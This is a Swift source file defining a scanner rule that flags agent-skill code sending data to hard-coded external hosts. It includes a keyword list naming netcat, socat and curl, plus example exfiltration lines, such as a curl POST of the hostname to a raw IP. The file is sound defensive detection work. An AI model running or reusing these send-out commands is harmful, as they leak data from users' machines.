import SkillScanCore
import SkillScanLexers

/// Code that sends data to a hard-coded external host: `requests.post("https://…")`,
/// `fetch(url, {method: 'POST'})`, `curl -d … https://…`, `Invoke-RestMethod -Method Post`.
///
/// Capability evidence, not a verdict: API clients post to their own service all the time.
/// A host matching the skill's declared service lowers confidence; a raw IP, paste site,
/// tunnel or request collector raises it. Localhost and `example.com` are ignored.
struct ExternalTransmissionRule: Rule {
  static let description = RuleDescription(
    id: "external-transmission",
    name: "Data sent to an external host",
    pattern: .e1,
    severity: .medium,
    confidence: .medium,
    languages: [.shell, .python, .javascript, .powershell, .markdown],
    summary: "Code posts or uploads data to a hard-coded external host.",
    rationale: """
      Every outbound POST is a path for data to leave the machine. Judged against the skill's \
      purpose it is usually the product (an API client); to an unrelated host, a raw IP or a \
      collector it is how stolen data leaves.
      """,
    remediation: "Send data only to the service the skill documents, and say in SKILL.md what is sent.",
    references: [.owaspLLM(2), .owaspASI(2), .atlas("AML.T0086"), .cwe(200), .taxonomy("E1")],
    keywords: [
      "curl", "wget", "post", "put", "patch", "fetch", "axios", "upload", "sendbeacon", "invoke-restmethod", "invoke-webrequest",
      "iwr", "irm", "scp", "rsync", "request", "urlopen",
      " nc ", "\nnc ", "|nc ", "(nc ", "ncat", "netcat", "socat", "telnet", "gist",
    ],
    triggeringExamples: [
      Example("import requests\n↓requests.post('https://metrics.acme-analytics.io/v1', json={'n': 1})\n", language: .python),
      Example("↓curl -s -X POST -d \"host=$(hostname)\" http://203.0.113.9/ping\n", language: .shell),
      Example("↓fetch('https://collect.tracker-hub.net/e', { method: 'POST', body: JSON.stringify(stats) });\n", language: .javascript),
    ],
    nonTriggeringExamples: [
      Example("curl -X POST http://localhost:8080/api/reload\n", language: .shell, note: "local development server"),
      Example("import requests\nrequests.post('https://api.example.com/v1/items', json={'a': 1})\n", language: .python, note: "documentation placeholder host"),
      Example("curl -fsSL https://api.github.com/repos/o/r/releases/latest\n", language: .shell, note: "a GET request"),
    ]
  )

  func check(file: AnalyzedFile, in skill: AnalyzedSkill, into sink: inout FindingSink) {
    let declared = ExfilDeclaredService.of(skill)
    var seen = Set<Int>()
    for span in ExfilCodeSpan.spans(of: file, includeInline: true) {
      for (range, host, name) in Self.transmissions(span, file) {
        let hostClass = ExfilHosts.classify(host)
        guard hostClass != .local, seen.insert(range.lowerBound).inserted else { continue }
        let own = declared.matches(host: host)
        let confidence: Confidence = own ? .low : (hostClass == .collector ? .high : .medium)
        let note = own ? " (the skill's declared service)" : (hostClass == .collector ? " (raw IP, paste, tunnel or collector host)" : "")
        sink.report(
          "\(name) sends data to \(host)\(note)", in: file, at: range, confidence: confidence,
          context: span.context(file, at: range.lowerBound), polarity: span.polarity(file, at: range))
      }
    }
  }

  /// (range, host, sender) for each send with a literal destination in `span`.
  static func transmissions(_ span: ExfilCodeSpan, _ file: AnalyzedFile) -> [(Range<Int>, String, String)] {
    let bytes = file.bytes
    var result: [(Range<Int>, String, String)] = []
    switch span.language {
    case .shell:
      for p in span.pipelines(file) {
        for c in p.commands {
          guard let s = ExfilShellSink.recognize(c, bytes: bytes), let host = s.host, s.channel != .dns else { continue }
          result.append((c.range, host, c.effectiveName(in: bytes)))
        }
      }
    case .powershell:
      for p in span.pipelines(file) {
        for c in p.commands {
          let words = c.words.map { $0.range.count > ExfilShellSink.maxWordBytes ? "" : ByteText.string($0.range, in: bytes).lowercased() }
          let name = words.first ?? ""
          let posts = PowerShellFlow.senders.contains(name) && words.contains { $0.hasPrefix("-body") || $0.hasPrefix("-infile") || $0 == "post" }
          let uploads = words.contains { $0.contains(".upload") }
          guard posts || uploads, let host = words.lazy.compactMap({ ExfilHosts.firstHost(in: $0) }).first else { continue }
          result.append((c.range, host, name))
        }
      }
    case .python, .javascript:
      // Statements only for a span that calls something (a snippet of a page often does not).
      let calls = file.codeCalls(span.tokens, language: span.language)
      guard !calls.isEmpty else { break }
      let s = file.flowFacts(span.tokens, language: span.language).statements
      for call in calls {
        guard let name = CodeFlowSinks.sinkName(call, s, language: span.language, streams: false),
          !call.baseName.hasPrefix("send") || call.callee.lowercased().contains("beacon"),
          let host = CodeFlowSinks.host(call, s, language: span.language, constants: [:])
        else { continue }
        result.append((call.range, host, name))
      }
    default:
      break
    }
    return result
  }
}
